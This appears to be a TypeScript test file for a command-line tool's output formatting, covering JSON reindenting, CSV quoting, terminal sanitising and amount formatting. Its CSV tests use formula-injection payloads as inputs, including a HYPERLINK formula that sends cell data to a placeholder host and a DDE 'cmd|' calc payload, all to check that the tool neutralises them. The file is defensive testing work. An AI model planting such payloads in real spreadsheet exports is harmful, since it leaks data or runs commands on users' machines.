import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { colorEnabled } from '../../src/core/io.js';
import { csvCell, csvLine } from '../../src/core/output/csv.js';
import {
  formatAmount,
  machineTextForTerminal,
  oneLine,
  printable,
  printableDeep,
  terminalJson,
} from '../../src/core/output/format.js';
import { prettyJson, reindentJson } from '../../src/core/output/json.js';
import { formatTimestamp } from '../../src/core/output/time.js';

describe('reindentJson', () => {
  it('matches JSON.stringify with two spaces for ordinary documents', () => {
    fc.assert(
      fc.property(fc.json(), (text) => {
        expect(reindentJson(text)!).toBe(JSON.stringify(JSON.parse(text), null, 2));
      }),
      { numRuns: 300 },
    );
  });

  it('keeps numbers and strings exactly as received', () => {
    const raw =
      '{"amount":125000.50,"big":12345678901234567890,"s":"a \\"quoted\\" {x}, [y]","e":[],"o":{}}';
    expect(reindentJson(raw)).toBe(
      '{\n  "amount": 125000.50,\n  "big": 12345678901234567890,\n  "s": "a \\"quoted\\" {x}, [y]",\n  "e": [],\n  "o": {}\n}',
    );
  });
});

describe('csvLine', () => {
  it('quotes only what RFC 4180 requires and ends with CRLF', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', ''])).toBe(
      'a,"b,c","say ""hi""","two\nlines",\r\n',
    );
  });
});

describe('a CSV cell a spreadsheet would run as a formula', () => {
  /** What a spreadsheet starts a formula with (docs/reference/output.md, "CSV"; OWASP). */
  const FORMULA = /^[=+\-@\t\r]/;
  const PLAIN_NUMBER = /^-?(0|[1-9]\d*)(\.\d+)?([eE][+-]?\d+)?$/;
  /** The cell as a spreadsheet reads it: the field unquoted. */
  const read = (field: string) => parseCsv(field + '\r\n', { relax_quotes: true })[0]![0]!;

  it("is written with a ' in front: =, +, -, @, tab and carriage return", () => {
    expect(csvCell('=HYPERLINK("http://x.test/?"&A1,"Refund")')).toBe(
      `"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")"`,
    );
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('+977 1 4411111')).toBe("'+977 1 4411111");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('-')).toBe("'-");
    expect(csvCell('-Infinity')).toBe("'-Infinity");
  });

  it('looks past the characters a terminal drops, which would otherwise uncover the formula', () => {
    expect(csvCell('\u001b\u202e=1+1')).toBe("'\u001b\u202e=1+1");
    expect(machineTextForTerminal('csv', csvLine(['\u0007=1+1']))).toBe("'=1+1\r\n");
  });

  it('leaves plain numbers alone, sent as numbers or as text: a negative amount stays a number', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell(-1e-7)).toBe('-1e-7');
    expect(csvCell('-1e400')).toBe('-1e400');
    expect(csvCell('-0')).toBe('-0');
    expect(csvCell('-12,5')).toBe(`"'-12,5"`);
    expect(csvCell('-12.5.1')).toBe("'-12.5.1");
  });

  it('leaves other text, true, false and nested values as they are', () => {
    expect(csvCell('SALARY = 72000')).toBe('SALARY = 72000');
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(['-1', '=x'])).toBe('"[""-1"",""=x""]"');
    expect(csvCell(null)).toBe('');
  });

  it("keeps the header row from running too: its names are the reply's keys", () => {
    expect(csvLine(['id', '=cmd|x'])).toBe("id,'=cmd|x\r\n");
  });

  it("reads back as text no spreadsheet runs: the value, with a ' in front where it would have run (property)", () => {
    const text = fc.oneof(
      fc.string(),
      fc
        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string())
        .map(([first, rest]) => first + rest),
      fc.double().map(String),
    );
    fc.assert(
      fc.property(text, (value) => {
        const cell = read(csvCell(value));
        expect(cell).toBe(FORMULA.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value);
        expect(FORMULA.test(cell) && !PLAIN_NUMBER.test(cell)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});

describe('formatting for people', () => {
  it('groups amounts the Nepali way with two decimals', () => {
    expect(formatAmount(125000.5)).toBe('1,25,000.50');
    expect(formatAmount(1234567)).toBe('12,34,567.00');
    expect(formatAmount(-45)).toBe('-45.00');
    expect(formatAmount(null)).toBe('');
  });

  it('shortens ISO date-times (the rest: time.test.ts)', () => {
    expect(formatTimestamp('2026-03-04T05:06:07Z', { zone: 'UTC' })).toBe('2026-03-04 05:06 UTC');
    expect(formatTimestamp('2026-03-04', { zone: 'UTC' })).toBe('2026-03-04');
  });

  it('removes control characters but keeps tabs and line breaks', () => {
    expect(printable('a\u001b[2Jb\tc\nd\u0007')).toBe('a[2Jb\tc\nd');
  });

  it('removes the C1 controls and the bidirectional ones, which could make a name read as another', () => {
    expect(printable('a\u009b31mb\u202ec\u2066d\u200fe\u061cf')).toBe('a31mbcdef');
    expect(oneLine(' a\u202e\n\u009bb ')).toBe('a b');
  });

  it('makes every string of a reply printable, keys too, and copies only what it changes', () => {
    const clean = { data: [{ id: 'a', n: 1, tags: ['x'] }], meta: { ok: true } };
    expect(printableDeep(clean)).toBe(clean);
    const reply = {
      data: [{ id: 'a' }, { id: 'b\u001b[2J', n: null }],
      meta: { ok: true },
      ['k\u202e']: 1,
    };
    const shown = printableDeep(reply);
    expect(shown).toEqual({
      data: [{ id: 'a' }, { id: 'b[2J', n: null }],
      meta: { ok: true },
      k: 1,
    });
    expect(shown.data[0]).toBe(reply.data[0]);
    expect(shown.meta).toBe(reply.meta);
    expect(reply.data[1]!.id).toBe('b\u001b[2J');
    const proto = printableDeep(
      JSON.parse('{"__proto__":{"x":1},"y":"\\u0007"}') as Record<string, unknown>,
    );
    expect(Object.keys(proto)).toEqual(['__proto__', 'y']);
    expect(Object.getPrototypeOf(proto)).toBe(Object.prototype);
  });

  it('escapes in JSON text what printable drops, so it still means the same value', () => {
    const value = { 'k\u202e': 'a\u009bb\u007fc\u2069', n: 1 };
    const text = terminalJson(JSON.stringify(value));
    expect(text).toBe('{"k\\u202e":"a\\u009bb\\u007fc\\u2069","n":1}');
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe('colorEnabled', () => {
  const cases: Array<[Record<string, string>, boolean, boolean, boolean]> = [
    [{}, true, false, true],
    [{}, false, false, false],
    [{ NO_COLOR: '1' }, true, false, false],
    [{ NO_COLOR: '' }, true, false, true],
    [{}, true, true, false],
    [{ CLICOLOR: '0' }, true, false, false],
    [{ FORCE_COLOR: '1' }, false, false, true],
    [{ FORCE_COLOR: '0' }, false, false, false],
    [{ CLICOLOR_FORCE: '1' }, false, false, true],
    [{ FORCE_COLOR: '1', NO_COLOR: '1' }, false, false, false],
    [{ FORCE_COLOR: '1' }, false, true, false],
    [{ TERM: 'dumb' }, true, false, false],
  ];
  it.each(cases)('env %j, tty %s, --no-color %s → %s', (env, tty, flag, expected) => {
    expect(colorEnabled(env, tty, flag)).toBe(expected);
  });
});

describe('prettyJson', () => {
  it('is the reply re-indented, exact in every case', () => {
    fc.assert(
      fc.property(fc.json(), fc.boolean(), (text, spaced) => {
        const raw = spaced ? JSON.stringify(JSON.parse(text), null, 3) : text;
        expect(prettyJson(raw, JSON.parse(raw))).toBe(reindentJson(raw));
      }),
      { numRuns: 300 },
    );
  });

  it('keeps digits the parsed value would lose', () => {
    const raw = '{"amount":125000.50,"n":1.0e-7}';
    expect(prettyJson(raw, JSON.parse(raw))).toBe('{\n  "amount": 125000.50,\n  "n": 1.0e-7\n}');
  });
});
